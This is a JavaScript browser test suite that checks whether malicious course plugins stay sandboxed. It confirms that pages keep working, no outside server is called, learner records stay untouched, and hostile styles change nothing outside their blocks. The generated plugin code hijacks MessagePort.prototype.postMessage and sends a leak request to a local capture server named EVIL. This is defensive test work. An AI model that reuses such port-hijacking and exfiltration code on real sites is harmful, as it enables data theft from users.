// Plugins that mean harm (`hostile.js`), several on a page: whatever they do in their frames, the rest of the page works,
// nobody is called, and the record has what the learner did and nothing else.

import assert from "node:assert/strict";
import dgram from "node:dgram";
import { appendFileSync, cpSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { record } from "./asking.js";
import { WHOLE, build, copyOf, disk, open, serve, visit } from "./harness.js";
import { HOSTILE, STYLES } from "./hostile.js";

let browser;
// The whole browser: how it shares processes and pictures among frames matters here.
open((it) => ({ browser } = it), () => null, WHOLE);

const slug = (name) => name.replaceAll(" ", "-");
const PAGES = ["quiet", "ends", "loud", "stuck"];
const of = (page) => Object.entries(HOSTILE).filter(([, { at = "quiet" }]) => at === page);

/** Somebody elsewhere, by TCP and UDP, who notes who calls. */
async function stranger() {
  /** @type {string[]} */
  const calls = [];
  const web = createServer((request, response) => {
    calls.push(request.url ?? "");
    response.end();
  });
  web.on("connection", () => calls.push("a connection"));
  await new Promise((on) => web.listen(0, "127.0.0.1", () => on(undefined)));
  const stun = dgram.createSocket("udp4");
  stun.on("message", () => calls.push("a packet"));
  await new Promise((on) => stun.bind(0, "127.0.0.1", () => on(undefined)));
  const { port } = /** @type {import("node:net").AddressInfo} */ (web.address());
  return { calls, web: port, stun: stun.address().port, close: () => (web.close(), stun.close()) };
}

// Two pages at a time: each waits for what its plugins do most of the time.
describe("hostile plugins", { concurrency: 2 }, () => {
  let site;
  /** @type {Record<string, Awaited<ReturnType<typeof stranger>>>} one for each page */
  const strangers = {};

  before(async () => {
    for (const page of PAGES) strangers[page] = await stranger();
    const course = copyOf("tests/browser/foreign");
    writeFileSync(join(course, "lessons/one.md"), "# One\n\nNothing.\n");
    // All waits are counted in beats; here two are a second.
    mkdirSync(join(course, "theme/client/frame"), { recursive: true });
    writeFileSync(join(course, "theme/client/frame/times.js"), "export const BEAT = 500;\nexport const FREE = 1500;\nexport const TASK = 500;\n");
    appendFileSync(join(course, "curriculum.toml"), 'trust = ["theme/"]\n');
    for (const [name, { code, module = "", at = "quiet" }] of Object.entries(HOSTILE)) {
      const kind = slug(name);
      const folder = join(course, "plugins", kind);
      cpSync(join(course, "plugins/dial"), folder, { recursive: true });
      for (const file of ["plugin.toml", "block.html"]) writeFileSync(join(folder, file), readFileSync(join(folder, file), "utf8").replace(/\bdial\b/g, kind));
      writeFileSync(
        join(folder, "element.js"),
        `const { port } = MessageChannel.prototype ?? {}; let raw; const post = MessagePort.prototype.postMessage;
        MessagePort.prototype.postMessage = function (...all) { raw = this; return post.apply(this, all); };
        ${module}
        const EVIL = "http://127.0.0.1:${strangers[at].web}/${kind}/", STUN = ${strangers[at].stun};
        const leak = (what) => { fetch(EVIL + "leak").catch(() => {}); el0.dataset.leaked = (el0.dataset.leaked ?? "") + what + "; "; };
        let el0;
        const PORT = (message, more) => { host0.assisted(); try { post.call(raw, message, more); } catch {} };
        let host0;
        export function connect(el, host) { el0 = el; host0 = host; const ITEM = el.querySelector("[data-item]").dataset.item; ${code} }\n`,
      );
    }
    for (const page of PAGES) {
      const blocks = of(page).map(([name]) => `::: ${slug(name)} ${slug(name)}-seven\nThis is ${name}.\n\nGoal: 7\n:::\n`);
      const good = "::: dial good\nSet the dial to seven.\n\nGoal: 7\n:::\n\n::: question sum\nHow much is 3 + 4?\n\nAnswer: 7\n:::\n";
      writeFileSync(join(course, `lessons/${page}.md`), `# ${page}\n\n${good}\n${blocks.join("\n")}`);
    }
    site = await serve(build(course));
  });
  after(() => {
    site?.close();
    for (const one of Object.values(strangers)) one.close();
  });

  for (const at of PAGES) {
    test(`those of the page "${at}": ${of(at).map(([name]) => name).join(", ")}`, { timeout: 150_000 }, async () => {
      const { page, context } = await visit(browser, site.url);
      page.on("dialog", (dialog) => assert.fail(dialog.message()));
      try {
        // All of them are near, so each gets its frame at once.
        await page.setViewportSize({ width: 1280, height: 12_000 });
        await page.goto(new URL(`lessons/${at}.html`, site.url).href);
        for (const [name] of of(at).filter(([, { steals }]) => steals)) await page.locator(`wend-${slug(name)} iframe:not(.coming)`).waitFor({ timeout: 60_000 });
        await works(page);
        if (at === "stuck") {
          await dialOf(page).getByLabel("Your number").fill("7");
          await page.evaluate(() => (document.documentElement.dataset.text = "larger"));
        }
        for (const [name, { then }] of of(at)) await became(page, name, then);
        if (at === "stuck") assert.equal(await dialOf(page).getByLabel("Your number").inputValue(), "7", "begun before others took the processor away");
        await turns(page);
        await whole(page, at);
        await kept(page, at);
      } finally {
        await context.close();
      }
    });
  }

  /** The learner types slowly into the page's own question. */
  async function works(page) {
    const field = page.locator("wend-question").getByRole("textbox");
    await field.focus();
    await page.waitForTimeout(500);
    await field.pressSequentially("70", { delay: 150 });
    await field.press("Backspace");
    // By keys: what stands above may still grow under a pointer.
    await field.press("Enter");
    await page.locator("wend-question").getByText("Right.").waitFor({ timeout: 60_000 });
  }

  const dialOf = (page) => page.frameLocator("wend-dial iframe");

  /** The learner turns the dial of a plugin that means well. */
  async function turns(page) {
    // A page that was shouted at needs a while to hear it all.
    await page.locator("wend-dial iframe:not(.coming)").waitFor({ timeout: 60_000 });
    await dialOf(page).getByLabel("Your number").fill("7");
    await dialOf(page).getByRole("button", { name: "Check" }).press("Enter");
    await dialOf(page).getByText("Right.").waitFor({ timeout: 60_000 });
  }

  /** What became of a hostile block: it stays and did no harm, or a sentence says why not above its plain content. */
  async function became(page, name, then) {
    const block = page.locator(`wend-${slug(name)}`);
    if (then === undefined) {
      await block.locator("iframe:not(.coming)").waitFor({ timeout: 60_000 });
      if (name === "fills the record") await page.frameLocator(`wend-${slug(name)} iframe`).locator("[data-full]").waitFor();
      assert.equal(await block.locator("iframe").count(), 1, name);
      const inside = await (await block.locator("iframe").elementHandle()).contentFrame();
      assert.equal(await inside.evaluate(() => document.querySelector("[data-leaked]")?.getAttribute("data-leaked") ?? ""), "", name);
    } else {
      await block.getByText(then).waitFor({ timeout: 60_000 });
      assert.equal(await block.locator("iframe").count(), 0, name);
      assert.ok(await block.getByText(`This is ${name}.`).isVisible(), `${name}: its plain content is shown`);
    }
  }

  /** Nothing of the page has changed, and nobody was called. */
  async function whole(page, at) {
    await page.waitForTimeout(1500);
    const now = await page.evaluate(() => ({
      polluted: /** @type {any} */ ({}).polluted ?? null,
      title: document.title,
      taken: document.getElementById("taken") !== null,
      high: Math.max(...[...document.querySelectorAll("*")].map((el) => el.shadowRoot?.querySelector("iframe")?.offsetHeight ?? 0)),
      path: location.pathname,
    }));
    assert.equal(now.polluted, null);
    assert.ok(now.title.startsWith(at), now.title);
    assert.equal(now.taken, false);
    assert.ok(now.high <= 6000, `${now.high} px`);
    assert.ok(now.path.endsWith(`${at}.html`), now.path);
    // Chromium opens a connection to where a frame wants to go before the page's policy says no.
    const knocks = of(at).some(([, plugin]) => plugin.knocks);
    const { calls } = strangers[at];
    assert.deepEqual(knocks ? calls.filter((call) => call !== "a connection") : calls, [], "nobody was called");
  }

  /** The record has the learner's answers, and of the hostile ones only what they may say of their own items. */
  async function kept(page, at) {
    const entries = (await record(page, site.url)).filter((entry) => entry.kind !== "opened" && entry.kind !== "state");
    assert.ok(entries.every((entry) => entry.kind === "answer" && entry.by === "learner"), JSON.stringify(entries.slice(0, 3)));
    const about = (label) => entries.filter((entry) => entry.item === `${at}#${label}`);
    assert.deepEqual(about("sum").map((entry) => entry.answer), ["7"]);
    assert.deepEqual(about("good").map((entry) => entry.answer), ["7"]);
    let own = 0;
    for (const [name] of of(at)) {
      const said = about(`${slug(name)}-seven`);
      own += said.length;
      if (name === "forges evidence") assert.deepEqual(said.map(({ answer, objective, lesson, correct }) => [answer, objective, lesson, correct]), [["kept", at, at, false]]);
      if (name === "fills the record") assert.equal(said.length, 200);
    }
    assert.equal(own + about("sum").length + about("good").length, entries.length, "and nothing of any other item");
  }
});

test("a stranger's styles change nothing outside of the stranger's blocks", async () => {
  /** The site with these styles, one a plugin; after each block stands a paragraph. */
  const site = (styles) => {
    const course = copyOf("tests/browser/foreign");
    const blocks = styles.map((style, n) => {
      const folder = join(course, `plugins/look${n}`);
      mkdirSync(folder);
      writeFileSync(join(folder, "plugin.toml"), `name = "look${n}"\nversion = "1.0.0"\napi = 1\ndoc = "A look."\n[kind.look${n}]\ndoc = "A look."\n[kind.look${n}.part.body]\nis = "text"\n`);
      writeFileSync(join(folder, "block.html"), "{{ parts.body }}\n");
      writeFileSync(join(folder, "element.css"), style);
      return `::: look${n}\nWords of a block.\n:::\n\nWords after block ${n}.\n`;
    });
    writeFileSync(join(course, "lessons/looks.md"), `# Looks\n\nWords before.\n\n1. One\n2. Two\n\n::: question sum\nHow much is 3 + 4?\n\nAnswer: 7\n:::\n\n${blocks.join("\n")}`);
    return disk(build(course));
  };
  /** Everything outside of those blocks: its styles but for those that follow from their size, and whether it is seen. */
  const seen = async (address) => {
    const { page, context } = await visit(browser, address, { path: "lessons/looks.html" });
    const all = await page.evaluate(() => {
      const follows = /(height|block-size|perspective-origin|transform-origin|(inset-block|bottom|top)[a-z-]*): [^;]*;/g;
      const inside = (el) => /^wend-look/.test(el.closest("[data-kind]")?.localName ?? "");
      const out = [];
      for (const el of [...document.querySelectorAll("*")].filter((el) => !inside(el))) {
        for (const pseudo of [null, "::before", "::marker"]) out.push(`${el.localName}#${el.id}${pseudo ?? ""}; ${getComputedStyle(el, pseudo).cssText.replace(follows, "")}`);
      }
      const root = getComputedStyle(document.documentElement);
      out.push([...root].filter((name) => name.startsWith("--")).sort().map((name) => `${name}: ${root.getPropertyValue(name)}`).join("; "));
      const covered = [...document.querySelectorAll(".body > p, .body > ol > li, wend-question .prompt p, h1")].filter((el) => {
        el.scrollIntoView({ block: "center" });
        const { x, y, width, height } = el.getBoundingClientRect();
        return width === 0 || ![4, width / 2].every((right) => el.contains(document.elementFromPoint(x + right, y + height / 2)));
      });
      return { out, covered: covered.map((el) => el.textContent) };
    });
    await context.close();
    return all;
  };
  const [plain, hostile] = [await seen(site(STYLES.map(() => "p { color: red }"))), await seen(site(STYLES))];
  assert.deepEqual(hostile.covered, plain.covered);
  assert.deepEqual(plain.covered, []);
  assert.equal(hostile.out.length, plain.out.length);
  for (const [n, line] of plain.out.entries()) {
    if (hostile.out[n] === line) continue;
    const [was, is] = [line, hostile.out[n]].map((text) => text.split("; "));
    assert.fail(`${was[0]}: ${is.filter((part) => !was.includes(part)).join("; ")}`);
  }
});
